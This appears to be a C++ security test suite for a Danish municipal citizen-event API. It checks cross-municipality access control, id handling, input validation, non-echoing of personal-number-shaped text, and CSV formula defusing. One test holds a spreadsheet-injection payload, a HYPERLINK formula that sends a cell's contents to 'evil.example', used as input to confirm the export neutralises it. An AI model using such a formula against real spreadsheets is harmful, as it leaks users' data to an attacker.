// The API's event append is checked like an import, and nothing about other municipalities leaks
// through it (a real server on 127.0.0.1, a free port): corrections only of one's own
// municipality's events of the same citizen, the citizen known, ids made by the server, field
// sizes, UTF-8 and CPR-shaped text refused without echoing it, one answer (404) for a citizen who
// is not one's own and one who does not exist, formulas defused in the events CSV, and a Table
// holding bad UTF-8 still served.
#include <gtest/gtest.h>

#include <nlohmann/json.hpp>
#include <sstream>

#include "eventstore/event_import.h"
#include "eventstore/event_store.h"
#include "table/table_format.h"
#include "server/test_server.h"

namespace fremdrift::server::testing {
namespace {

using nlohmann::json;

// The test server's citizens: e1-e4 are Herning citizen 1's events, e5-e8 citizen 2's (both
// recorded by 657), e9-e12 Helsingør's (217).
const char* const kHerning1 = TestServer::kHerningCitizens[0];
const char* const kHerning2 = TestServer::kHerningCitizens[1];
const char* const kHelsingoer = TestServer::kHelsingoerCitizen;

class SecurityEventsTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    server_ = TestServer::Start().release();
    // Herning citizen 2 moves to Helsingør: one later event recorded by 217 (an import, straight
    // into the store).
    auto store = cases::EventStore::Open("sqlite:" + server_->dir() + "/events.db");
    ASSERT_TRUE(store.ok()) << store.status().ToString();
    cases::Event move;
    move.event_id = "move1";
    move.person = kHerning2;
    move.kommune = 217;
    move.date = DaysFromCivil({2019, 6, 3});
    move.type = cases::EventType::kVisitation;
    move.attributes.Set("project", "haandholdt");
    move.recorded_by = "import";
    move.recorded_at = "2020-01-02T00:00:00";
    ASSERT_TRUE((*store)->Append({move}, {"test", "test", "2020-01-02T00:00:00"}).ok());
  }
  static void TearDownTestSuite() {
    delete server_;
    server_ = nullptr;
  }
  static int Port() { return server_->port(); }
  static std::int64_t AuditCount(const std::string& citizen, const std::string& action) {
    return server_->AuditCount(citizen, action);
  }
  static std::int64_t StoredEvents() {
    auto store = cases::EventStore::Open("sqlite:" + server_->dir() + "/events.db");
    return store.ok() ? *(*store)->CountEvents() : -1;
  }
  // A session that sees the move: any accepted append makes the server reload the histories.
  static void Reload() {
    Session s(Port());
    ASSERT_EQ(s.Login("sb657"), 200);
    auto r = s.Post("/api/v1/events", Event(kHerning1, 657, "cv_registered").dump());
    ASSERT_TRUE(r);
    ASSERT_EQ(r->status, 201) << r->body;
  }
  static json Event(const std::string& person, int kommune, const std::string& type) {
    return json{{"person", person}, {"kommune", kommune}, {"date", "2019-12-30"}, {"type", type}};
  }
  static std::string ErrorMessage(const httplib::Result& r) {
    auto body = json::parse(r->body, nullptr, false);
    if (body.is_discarded() || !body.contains("error")) return "";
    return body["error"]["message"].get<std::string>();
  }
  static TestServer* server_;
};
TestServer* SecurityEventsTest::server_ = nullptr;

TEST_F(SecurityEventsTest, AnotherMunicipalitysEventsCannotBeRetractedOrSuperseded) {
  Reload();
  Session cw217(Port());
  ASSERT_EQ(cw217.Login("sb217"), 200);
  // The moved citizen is now 217's...
  auto now_theirs = cw217.Get(std::string("/api/v1/borgere/") + kHerning2);
  ASSERT_TRUE(now_theirs);
  ASSERT_EQ(now_theirs->status, 200) << now_theirs->body;
  // ...but what 657 recorded stays 657's: no retraction, no correction.
  const std::int64_t before = StoredEvents();
  json retract = Event(kHerning2, 217, "retraction");
  retract["supersedes"] = "e8";
  auto r = cw217.Post("/api/v1/events", retract.dump());
  ASSERT_TRUE(r);
  EXPECT_EQ(r->status, 400) << r->body;
  json supersede = Event(kHerning2, 217, "conversation");
  supersede["attributes"] = {{"kind", "foerste"}};
  supersede["supersedes"] = "e8";
  auto s = cw217.Post("/api/v1/events", supersede.dump());
  ASSERT_TRUE(s);
  EXPECT_EQ(s->status, 400) << s->body;
  // The answer is the one for an id that does not exist, and does not repeat the id.
  json unknown = Event(kHerning2, 217, "retraction");
  unknown["supersedes"] = "no-such-event";
  auto u = cw217.Post("/api/v1/events", unknown.dump());
  ASSERT_TRUE(u);
  EXPECT_EQ(u->status, 400);
  EXPECT_EQ(ErrorMessage(r), ErrorMessage(u));
  EXPECT_EQ(ErrorMessage(s), ErrorMessage(u));
  EXPECT_EQ(ErrorMessage(r).rfind("supersedes:", 0), 0u) << r->body;
  EXPECT_EQ(r->body.find("e8"), std::string::npos);
  EXPECT_EQ(u->body.find("no-such-event"), std::string::npos);
  EXPECT_EQ(StoredEvents(), before);
  // 217 may retract its own event of the citizen.
  json own = Event(kHerning2, 217, "retraction");
  own["supersedes"] = "move1";
  auto ok = cw217.Post("/api/v1/events", own.dump());
  ASSERT_TRUE(ok);
  EXPECT_EQ(ok->status, 201) << ok->body;
}

TEST_F(SecurityEventsTest, AnotherCitizensEventCannotBeSuperseded) {
  Session cw(Port());
  ASSERT_EQ(cw.Login("sb657"), 200);
  json e = Event(kHerning1, 657, "conversation");
  e["attributes"] = {{"kind", "jobsamtale"}};
  e["supersedes"] = "e5";  // Herning citizen 2's event, recorded by 657 too
  auto r = cw.Post("/api/v1/events", e.dump());
  ASSERT_TRUE(r);
  EXPECT_EQ(r->status, 400) << r->body;
  EXPECT_EQ(ErrorMessage(r).rfind("supersedes:", 0), 0u) << r->body;
  // The same citizen's own event: accepted.
  e["supersedes"] = "e4";
  auto ok = cw.Post("/api/v1/events", e.dump());
  ASSERT_TRUE(ok);
  EXPECT_EQ(ok->status, 201) << ok->body;
  // A retraction must name what it retracts.
  auto bare = cw.Post("/api/v1/events", Event(kHerning1, 657, "retraction").dump());
  ASSERT_TRUE(bare);
  EXPECT_EQ(bare->status, 400);
}

TEST_F(SecurityEventsTest, AnUnknownCitizenNeedsAVisitationFirst) {
  Session cw(Port());
  ASSERT_EQ(cw.Login("sb657"), 200);
  json talk = Event("NEWPERSON1", 657, "conversation");
  talk["attributes"] = {{"kind", "jobsamtale"}};
  auto r = cw.Post("/api/v1/events", talk.dump());
  ASSERT_TRUE(r);
  EXPECT_EQ(r->status, 400) << r->body;
  EXPECT_NE(ErrorMessage(r).find("person: citizen unknown"), std::string::npos) << r->body;
  // As at import, a visitation makes the citizen known.
  json visit = Event("NEWPERSON1", 657, "visitation");
  visit["attributes"] = {{"project", "haandholdt"}};
  auto v = cw.Post("/api/v1/events", visit.dump());
  ASSERT_TRUE(v);
  ASSERT_EQ(v->status, 201) << v->body;
  auto again = cw.Post("/api/v1/events", talk.dump());
  ASSERT_TRUE(again);
  EXPECT_EQ(again->status, 201) << again->body;
  // Municipality 000 or unknown: refused.
  for (int k : {0, 999}) {
    auto bad = cw.Post("/api/v1/events", Event(kHerning1, k, "cv_registered").dump());
    ASSERT_TRUE(bad);
    EXPECT_EQ(bad->status, 400) << k << " " << bad->body;
  }
}

TEST_F(SecurityEventsTest, TheServerMakesEventIdsAndNeverConfirmsAnothersId) {
  Session cw(Port());
  ASSERT_EQ(cw.Login("sb657"), 200);
  auto r = cw.Post("/api/v1/events", Event(kHerning1, 657, "cv_registered").dump());
  ASSERT_TRUE(r);
  ASSERT_EQ(r->status, 201) << r->body;
  const std::string id = json::parse(r->body)["event_id"];
  EXPECT_EQ(id.rfind("web-657-", 0), 0u) << id;
  EXPECT_EQ(id.size(), 8u + 16u);
  // A client id is refused whatever it is: Helsingør's "e9" gets the same answer as a new one,
  // and neither is repeated (no 409 naming or confirming another municipality's id).
  json theirs = Event(kHerning1, 657, "cv_registered");
  theirs["event_id"] = "e9";
  json fresh = theirs;
  fresh["event_id"] = "fresh-id-1";
  auto a = cw.Post("/api/v1/events", theirs.dump());
  auto b = cw.Post("/api/v1/events", fresh.dump());
  ASSERT_TRUE(a);
  ASSERT_TRUE(b);
  EXPECT_EQ(a->status, 400);
  EXPECT_NE(a->status, 409);
  EXPECT_EQ(ErrorMessage(a), ErrorMessage(b));
  EXPECT_EQ(a->body.find("e9"), std::string::npos);
  EXPECT_EQ(ErrorMessage(a).rfind("event_id:", 0), 0u) << a->body;
}

TEST_F(SecurityEventsTest, OversizedFieldsAreRefused) {
  Session cw(Port());
  ASSERT_EQ(cw.Login("sb657"), 200);
  const std::int64_t before = StoredEvents();
  json big = Event(kHerning1, 657, "company_contact");
  big["attributes"] = {{"company", std::string(501, 'x')}};
  auto r = cw.Post("/api/v1/events", big.dump());
  ASSERT_TRUE(r);
  EXPECT_EQ(r->status, 400);
  EXPECT_NE(ErrorMessage(r).find("attributes: attribute company is longer than 500 bytes"),
            std::string::npos)
      << r->body;
  json sup = Event(kHerning1, 657, "retraction");
  sup["supersedes"] = std::string(65, 'e');
  auto s = cw.Post("/api/v1/events", sup.dump());
  ASSERT_TRUE(s);
  EXPECT_EQ(s->status, 400);
  EXPECT_EQ(ErrorMessage(s).rfind("supersedes:", 0), 0u) << s->body;
  EXPECT_EQ(StoredEvents(), before);
  // 500 bytes is the limit, not over it.
  big["attributes"] = {{"company", std::string(500, 'x')}};
  auto ok = cw.Post("/api/v1/events", big.dump());
  ASSERT_TRUE(ok);
  EXPECT_EQ(ok->status, 201) << ok->body;
}

TEST_F(SecurityEventsTest, InvalidUtf8IsRefused) {
  Session cw(Port());
  ASSERT_EQ(cw.Login("sb657"), 200);
  const std::int64_t before = StoredEvents();
  const std::string body = std::string("{\"person\":\"") + kHerning1 +
                           "\",\"kommune\":657,\"date\":\"2019-12-30\",\"type\":"
                           "\"caseworker_assigned\",\"attributes\":{\"caseworker\":\"Bad\xff\xfe"
                           "Name\"}}";
  auto r = cw.Post("/api/v1/events", body);
  ASSERT_TRUE(r);
  EXPECT_EQ(r->status, 400) << r->body;
  // A lone surrogate written as an escape is not text either.
  const std::string escaped = std::string("{\"person\":\"") + kHerning1 +
                              "\",\"kommune\":657,\"date\":\"2019-12-30\",\"type\":"
                              "\"caseworker_assigned\",\"attributes\":{\"caseworker\":\"\\ud800\"}}";
  auto e = cw.Post("/api/v1/events", escaped);
  ASSERT_TRUE(e);
  EXPECT_EQ(e->status, 400) << e->body;
  EXPECT_EQ(StoredEvents(), before);
}

TEST_F(SecurityEventsTest, CprShapedTextIsRefusedAndNeverEchoed) {
  Session cw(Port());
  ASSERT_EQ(cw.Login("sb657"), 200);
  const std::int64_t before = StoredEvents();
  std::vector<json> bodies;
  json company = Event(kHerning1, 657, "company_contact");
  company["attributes"] = {{"company", "Firma, CPR 010190-1234"}};
  bodies.push_back(company);
  json goal = Event(kHerning1, 657, "job_goal_set");
  goal["attributes"] = {{"goal", "ring 0101901234"}};
  bodies.push_back(goal);
  json sup = Event(kHerning1, 657, "retraction");
  sup["supersedes"] = "0101901234-0001";
  bodies.push_back(sup);
  json id = Event(kHerning1, 657, "cv_registered");
  id["event_id"] = "0101901234-0001";
  bodies.push_back(id);
  for (const json& b : bodies) {
    auto r = cw.Post("/api/v1/events", b.dump());
    ASSERT_TRUE(r);
    EXPECT_EQ(r->status, 400) << b.dump() << " " << r->body;
    EXPECT_EQ(r->body.find("0101901234"), std::string::npos) << r->body;
    EXPECT_EQ(r->body.find("010190-1234"), std::string::npos) << r->body;
  }
  EXPECT_EQ(StoredEvents(), before);
  // recorded_by is the user name, checked the same way (a CPR-shaped user name is refused).
  cases::Event e;
  e.event_id = "web-657-x";
  e.recorded_by = "0101901234";
  std::string field;
  EXPECT_FALSE(cases::CheckEventText(e, &field).ok());
  EXPECT_EQ(field, "recorded_by");
}

TEST_F(SecurityEventsTest, NotYoursAndDoesNotExistGetTheSameAnswer) {
  Session cw(Port());
  ASSERT_EQ(cw.Login("sb657"), 200);
  const std::int64_t denied = AuditCount(kHelsingoer, "denied");
  auto theirs = cw.Get(std::string("/api/v1/borgere/") + kHelsingoer);
  auto none = cw.Get("/api/v1/borgere/c999000000000000000000000000001");
  ASSERT_TRUE(theirs);
  ASSERT_TRUE(none);
  EXPECT_EQ(theirs->status, 404);
  EXPECT_EQ(none->status, 404);
  EXPECT_EQ(theirs->body, none->body);
  // The refusal is still audited with the citizen.
  EXPECT_EQ(AuditCount(kHelsingoer, "denied"), denied + 1);
}

TEST_F(SecurityEventsTest, FormulasInEventTextAreDefusedInTheEventsCsv) {
  Session cw(Port());
  ASSERT_EQ(cw.Login("sb657"), 200);
  json e = Event(kHerning1, 657, "caseworker_assigned");
  const std::string formula = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Se sag\")";
  e["attributes"] = {{"caseworker", formula}, {"role", "koordinerende"}};
  auto r = cw.Post("/api/v1/events", e.dump());
  ASSERT_TRUE(r);
  ASSERT_EQ(r->status, 201) << r->body;
  auto store = cases::EventStore::Open("sqlite:" + server_->dir() + "/events.db");
  ASSERT_TRUE(store.ok());
  auto events = (*store)->EventsOfPersons({kHerning1}, std::nullopt);
  ASSERT_TRUE(events.ok());
  // A cell made of the formula alone (as recorded_by could be) gets the apostrophe.
  cases::Event last = events->back();
  last.recorded_by = formula;
  const std::string csv = cases::EventsToCsv({last});
  EXPECT_NE(csv.find(";\"'=HYPERLINK("), std::string::npos) << csv;
  EXPECT_EQ(csv.find(";\"=HYPERLINK("), std::string::npos) << csv;
  EXPECT_NE(csv.find(";657;"), std::string::npos) << csv;  // numbers stay numbers
}

TEST_F(SecurityEventsTest, ATableWithBadUtf8IsStillWritten) {
  // Stored before the checks existed: the JSON writer replaces the bad bytes, it does not throw.
  Table t({{"navn", ColumnType::kString, ColumnRole::kDimension, "", "Navn"}});
  t.AddRow({std::string("Bad\xff\xfeName")});
  std::ostringstream out;
  ASSERT_NO_THROW(WriteTableJson(t, out));
  auto j = json::parse(out.str());
  EXPECT_EQ(j["rows"][0]["navn"], "Bad\xef\xbf\xbd\xef\xbf\xbdName");
}

}  // namespace
}  // namespace fremdrift::server::testing
